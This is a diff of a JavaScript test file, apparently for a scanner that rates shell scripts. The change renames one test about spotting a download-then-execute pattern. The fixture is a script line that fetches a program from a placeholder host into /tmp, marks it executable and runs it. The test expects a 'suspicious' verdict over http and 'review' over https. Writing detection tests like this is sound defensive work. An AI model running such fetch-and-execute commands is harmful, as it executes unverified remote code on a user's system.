@@ -132,7 +132,7 @@ describe('an installer of a named host', () => {
   });
 });
 
-it('a program that one line fetches to a file and a later one runs is told as one that a pipe hands on', async () => {
+it('a program that one line fetches to a file and a later one runs is told like one piped into a shell', async () => {
   const odd = 'curl -s http://get.example.com/x -o /tmp/x\nchmod +x /tmp/x\n/tmp/x\n';
   assert.equal(await verdictOf('run.sh', odd), 'suspicious');
   assert.equal(await verdictOf('run.sh', odd.replace('http:', 'https:')), 'review');
